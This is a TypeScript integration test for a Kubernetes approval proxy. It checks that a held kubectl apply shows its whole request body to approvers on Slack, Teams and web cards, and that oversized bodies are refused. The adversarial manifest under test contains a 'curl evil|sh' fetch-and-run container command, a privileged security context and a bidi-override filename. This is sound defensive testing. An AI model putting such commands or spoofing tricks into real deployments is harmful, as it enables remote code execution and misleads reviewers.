import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pino } from 'pino';
import { ApprovalGate } from '../../../src/adapters/kube-proxy/approval-gate.ts';
import { renderFullChangeModal } from '../../../src/adapters/slack/render/render-full-change-modal.ts';
import { renderCard as renderTeamsCard } from '../../../src/adapters/teams/render/render-card.ts';
import { renderFullChange } from '../../../src/adapters/web/render/render-full-change.ts';
import { composeWorkflow, type ComposedWorkflow } from '../../../src/app/compose-workflow.ts';
import { buildApprovalCard } from '../../../src/core/cards/build-approval-card.ts';
import { fullChangeOf } from '../../../src/core/changes/full-change.ts';
import type { RequestRecord } from '../../../src/core/lifecycle/request-record.ts';
import { decideRequest } from '../../../src/core/workflow/decide-request.ts';
import { startControlPlane, type ControlPlane } from '../../harness/control-plane.ts';
import { startRedis, type RedisServer } from '../../harness/redis-server.ts';
import { adversarialManifest } from '../../unit/core/changes/adversarial-body.ts';
import { allTexts } from '../../unit/adapters/slack/slack-assertions.ts';
import { PROXY_CLUSTER, startProxyFixture, type ProxyFixture } from './proxy-fixture.ts';

const NS = 'prod-payments';

const POLICY = `
apiVersion: countersign.io/v1alpha1
kind: ApprovalPolicy
metadata: { name: proxy-full-request }
spec:
  approverGroups:
    sre: { users: [bob] }
  rules:
    - name: kubectl-writes-in-prod
      match: { origins: [kubectl], namespaces: ['prod-*'], verbs: [create, update, patch, apply] }
      outcome: require-approval
      approval: { approverGroups: [sre], minApprovals: 1 }
`;

describe('countersign proxy: a held kubectl apply shows its whole body (real kubectl, real API server, real Redis)', () => {
  let cp: ControlPlane;
  let redis: RedisServer;
  let composed: ComposedWorkflow;
  let gate: ApprovalGate;
  let f: ProxyFixture;
  let dir: string;

  before(async () => {
    [cp, redis] = await Promise.all([startControlPlane({ seed: true }), startRedis()]);
    await cp.kubectl([
      'create',
      'role',
      'deployer',
      '-n',
      NS,
      '--verb=get,list,create,patch,update',
      '--resource=deployments',
    ]);
    await cp.kubectl([
      'create',
      'rolebinding',
      'alice-deployer',
      '-n',
      NS,
      '--role=deployer',
      '--user=alice',
    ]);
    dir = mkdtempSync(join(tmpdir(), 'countersign-proxy-body-'));
    const policyFile = join(dir, 'policy.yaml');
    writeFileSync(policyFile, POLICY);
    composed = composeWorkflow(
      {
        redis: { url: redis.url, keyPrefix: 'proxybody' },
        kubernetes: {
          kubeconfig: cp.kubeconfigFor('countersign'),
          clusters: [{ name: PROXY_CLUSTER, context: 'countersign' }],
          defaultCluster: PROXY_CLUSTER,
        },
        policyFile,
        tuning: { remindBeforeMs: 60_000 },
      },
      pino({ level: 'silent' }),
      { watchPolicy: false },
    );
    gate = new ApprovalGate({ deps: composed.deps, pollMs: 100 });
    f = await startProxyFixture(cp, gate);
  });
  after(async () => {
    await f?.stop();
    await gate?.close();
    await composed?.close();
    await Promise.all([cp?.stop(), redis?.stop()]);
  });

  const kubectl = (args: readonly string[]) => {
    const child = spawn(cp.binaries.kubectl, ['--kubeconfig', f.kubeconfig('alice'), ...args], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => (stdout += c.toString('utf8')));
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
    return new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) =>
      child.once('close', (code) => resolve({ code, stdout, stderr })),
    );
  };

  const manifestFile = (name: string, manifest: unknown): string => {
    const file = join(dir, `${name}.json`);
    writeFileSync(file, JSON.stringify(manifest));
    return file;
  };

  /** Waits for the store's change news until alice has a pending request for deployments. */
  const pendingDeploymentRequest = async (): Promise<RequestRecord> => {
    for (;;) {
      const open = await composed.deps.store.listOpenByRequester('alice');
      const found = open.find(
        (r) => r.request.type === 'api' && r.request.call.path.includes('/deployments'),
      );
      if (found?.state === 'pending') return found;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  };

  test('the card of a held apply has the whole body on every surface, and that body is what runs once approved', async () => {
    const run = kubectl(['apply', '-f', manifestFile('api', adversarialManifest)]);
    const pending = await pendingDeploymentRequest();
    assert.equal(pending.request.type, 'api');
    const { call } = pending.request;
    const card = buildApprovalCard(pending, composed.deps.clock.now());
    assert.ok(!card.preview.join('\n').includes('privileged'), 'the card line alone stops before it');
    assert.match(
      card.change?.notice ?? '',
      /^Request body \d+ bytes; the card shows its first 199 characters/,
    );
    const full = fullChangeOf(pending);
    assert.ok(full);
    // kubectl's body is not its own compact JSON (a trailing newline), so it is shown as sent,
    // with only the bidi override written as its escape.
    assert.equal(full.call?.prettyPrinted, false);
    assert.equal(
      createHash('sha256').update(full.sent.replaceAll('\\u202e', '\u202e')).digest('hex'),
      call.bodySha256,
      'the full view is the very bytes hashed and forwarded',
    );
    const slack = allTexts(renderFullChangeModal(card, full)).join('\n');
    const teams = JSON.stringify(renderTeamsCard(card).actions?.find((a) => a.id === 'full-change'));
    const web = renderFullChange(full).value;
    for (const [surface, text] of [
      ['slack', slack],
      ['teams', teams],
      ['web', web],
    ] as const) {
      assert.ok(text.includes('privileged'), `${surface} shows privileged`);
      assert.ok(text.includes('curl evil|sh'), `${surface} shows the command`);
      assert.ok(
        text.includes('u202egnp.exe') && !text.includes('\u202e'),
        `${surface} shows the bidi override`,
      );
      assert.ok(text.includes(call.bodySha256), `${surface} names the SHA-256`);
    }

    await decideRequest(composed.deps, {
      requestId: pending.id,
      person: { platform: 'web', platformUserId: 'web-bob', username: 'bob', groups: ['sre'] },
      verdict: 'approve',
    });
    const { code, stderr } = await run;
    assert.equal(code, 0, stderr);
    const created = JSON.parse(await cp.kubectl(['get', 'deployment', 'api', '-n', NS, '-o', 'json'])) as {
      spec: { template: { spec: { containers: { command: string[]; securityContext: unknown }[] } } };
      metadata: { annotations: Record<string, string> };
    };
    const container = created.spec.template.spec.containers[0];
    assert.deepEqual(container?.command, ['sh', '-c', 'curl evil|sh']);
    assert.deepEqual(container?.securityContext, { privileged: true });
    assert.equal(created.metadata.annotations.note, adversarialManifest.metadata.annotations.note);
  });

  test('a held apply whose body cannot be shown whole is refused: kubectl prints the size and the limit; nothing is filed', async () => {
    const big = {
      ...adversarialManifest,
      metadata: {
        ...adversarialManifest.metadata,
        name: 'too-big',
        annotations: { filler: 'f'.repeat(7_000) },
      },
    };
    const { code, stderr } = await kubectl(['apply', '-f', manifestFile('too-big', big)]);
    assert.notEqual(code, 0);
    assert.match(stderr, /Error from server \(RequestEntityTooLarge\)/);
    assert.match(
      stderr,
      /This request's body is \d+ bytes, \d+ characters as the card's full view shows it; the limit is 6000/,
    );
    const open = await composed.deps.store.listOpenByRequester('alice');
    assert.ok(
      !open.some((r) => r.request.type === 'api' && r.request.call.body?.includes('too-big')),
      'nothing filed',
    );
    assert.equal(
      (
        await cp.kubectl(['get', 'deployment', 'too-big', '-n', NS, '--ignore-not-found', '-o', 'name'])
      ).trim(),
      '',
    );
  });
});
